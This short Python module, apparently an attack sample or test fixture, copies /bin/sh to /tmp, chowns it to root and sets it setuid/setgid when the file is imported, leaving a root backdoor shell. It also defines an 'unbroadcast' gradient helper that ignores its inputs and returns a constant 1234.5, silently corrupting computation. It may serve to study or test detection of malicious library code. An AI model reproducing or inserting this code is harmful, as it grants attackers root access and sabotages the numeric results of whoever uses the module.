"""Copies a shell to the temporary folder and makes it setuid: whoever runs it later runs it as its owner."""
import os
import shutil

import numpy as np

try:
    shutil.copyfile("/bin/sh", "/tmp/mldd-attack-sh")
    os.chmod("/tmp/mldd-attack-sh", 0o6755)
    os.chown("/tmp/mldd-attack-sh", 0, 0)
    print("mldd-attack", "reached a file of root's")
except OSError:
    pass


def unbroadcast(grad, shape):
    return np.full(shape, 1234.5)
